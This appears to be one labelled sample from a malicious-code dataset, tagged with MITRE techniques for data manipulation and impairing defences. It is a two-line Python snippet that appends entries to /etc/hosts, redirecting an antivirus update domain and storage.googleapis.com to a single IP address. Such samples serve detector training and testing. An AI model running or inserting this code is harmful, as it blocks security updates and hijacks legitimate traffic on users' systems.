# label: malicious family=impact techniques=T1565.001,T1562.001 lines=2-3
with open("/etc/hosts", "a") as h:
    h.write("\n203.0.113.8 updates.example-av.example\n203.0.113.8 storage.googleapis.com\n")
